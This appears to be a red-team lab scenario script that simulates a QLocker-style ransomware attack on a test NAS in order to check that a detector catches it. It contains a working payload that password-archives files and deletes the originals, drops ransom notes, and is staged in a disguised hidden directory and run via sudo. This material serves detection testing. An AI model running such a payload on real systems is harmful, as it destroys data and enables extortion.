# QLocker-style: password-protected archives replace the originals. 7z per file with -sdel (7z itself
# deletes the original) on the HR share, zip -m per directory (zip deletes the originals) on the legal share.
HOST=nas01.corp.example
SUMMARY="Attack: QLocker-style archiving with passwords, sudo from dave's session: 7z a -p -mhe=on -sdel per file on the HR share, zip -P -m per directory on the legal share; !!!READ_ME.txt per directory."

scenario_prepare() {
    rt_note_text > "$RT_DROP/readme.txt"
    cat > "$RT_DROP/q.sh" <<'SH'
#!/bin/bash
PW='Qk8#zzP1!mW'
find /srv/rt-lab/shares/hr -type f | while read -r f; do
  7z a -bd -bso0 -p"$PW" -mhe=on -sdel "$f.7z" "$f"
  cp -n /var/tmp/.font-cache/readme.txt "$(dirname "$f")/!!!READ_ME.txt"
done
for d in $(find /srv/rt-lab/shares/legal -type f -printf '%h\n' | sort -u); do
  (cd "$d" && zip -q -m -P "$PW" "$(basename "$d").zip" -- * && cp /var/tmp/.font-cache/readme.txt '!!!READ_ME.txt')
done
SH
    chmod 755 "$RT_DROP/q.sh"
    N_HR=$(find "$RT_ROOT/shares/hr" -type f | wc -l); N_LEGAL=$(find "$RT_ROOT/shares/legal" -type f | wc -l)
    N_DIRS=$(find "$RT_ROOT/shares/hr" "$RT_ROOT/shares/legal" -type f | rt_count_dirs)
}
scenario_run() {
    rt_attack as_login dave "sudo bash /var/tmp/.font-cache/q.sh"
}
scenario_verify() {
    rt_check 7z-archives "$(find "$RT_ROOT/shares/hr" -name '*.7z' | wc -l)" "$N_HR" &&
    rt_check legal-left "$(find "$RT_ROOT/shares/legal" -type f ! -name '*.zip' ! -name '!!!READ_ME.txt' | wc -l)" 0 &&
    rt_check notes "$(find "$RT_ROOT/shares" -name '!!!READ_ME.txt' | wc -l)" "$N_DIRS"
}
scenario_truth() {
    cat <<Y
expected:
  - rootExe: /usr/bin/bash
    rootCommandContains: "q.sh"
    loginUser: dave
    runAsUser: root
    filesAffected: $((N_HR + N_LEGAL))
    overwrite: new-file-then-delete
    newExtension: .7z
    notes: { name: "!!!READ_ME.txt", directories: $N_DIRS }
    tools: [7z, zip]
    targetRoots: [/srv/rt-lab/shares/hr, /srv/rt-lab/shares/legal]
    detail: "$N_HR files each moved into FILE.7z (7z -sdel); $N_LEGAL files moved into one zip per directory (zip -m)"
Y
}
